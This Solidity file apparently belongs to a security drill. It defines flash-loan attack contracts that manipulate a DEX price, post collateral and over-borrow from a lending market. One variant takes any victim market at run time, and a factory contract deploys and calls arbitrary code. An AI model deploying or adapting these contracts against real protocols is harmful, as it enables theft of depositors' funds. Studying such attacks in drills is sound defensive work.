// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {FlashAttacker} from "./drill/FlashAttacker.sol";
import {FlashTrader} from "./drill/Trader.sol";
import {IUniswapV2Router} from "./drill/IUniswapV2.sol";
import {LendingMarket} from "./drill/LendingMarket.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// @title The drill's attack with its plan inside: whoever owns it calls it without a number
contract ReadyAttacker is FlashAttacker {
    Plan private _plan;

    constructor(LendingMarket lender_, LendingMarket victim_, IUniswapV2Router router_, Plan memory plan_, address owner_)
        FlashAttacker(lender_, victim_, router_)
    {
        _plan = plan_;
        _transferOwnership(owner_);
    }

    function run() public virtual onlyOwner {
        _flash(_plan.flashAmount, abi.encode(_plan));
    }
}

/// @title The same, of no use until its owner says so in a transaction of its own
contract WaitingAttacker is ReadyAttacker {
    bool public ready;

    constructor(LendingMarket lender_, LendingMarket victim_, IUniswapV2Router router_, Plan memory plan_, address owner_)
        ReadyAttacker(lender_, victim_, router_, plan_, owner_)
    {}

    function arm() external onlyOwner {
        ready = true;
    }

    function run() public override onlyOwner {
        require(ready);
        super.run();
    }
}

/// @title The same attack that is told its victim when it is run
contract LateAttacker is FlashTrader {
    using SafeERC20 for IERC20;

    constructor(LendingMarket lender_) FlashTrader(lender_) {}

    function attack(LendingMarket victim, IUniswapV2Router router, FlashAttacker.Plan calldata plan)
        external
        onlyOwner
    {
        _flash(plan.flashAmount, abi.encode(victim, router, plan));
    }

    function _useLoan(uint256 amount, uint256, bytes calldata data) internal override {
        (LendingMarket victim, IUniswapV2Router router, FlashAttacker.Plan memory plan) =
            abi.decode(data, (LendingMarket, IUniswapV2Router, FlashAttacker.Plan));
        _swap(router, asset, collateral, amount);
        collateral.forceApprove(address(victim), plan.collateralAmount);
        victim.depositCollateral(plan.collateralAmount);
        victim.borrow(plan.borrowAmount);
        _swap(router, collateral, asset, _held(collateral));
    }
}

/// @title Makes contracts, and may call them at once
contract Maker {
    function make(bytes memory code, bytes calldata first) external returns (address made) {
        assembly ("memory-safe") {
            made := create(0, add(code, 0x20), mload(code))
        }
        require(made != address(0));
        if (first.length > 0) {
            (bool done,) = made.call(first);
            require(done);
        }
    }
}
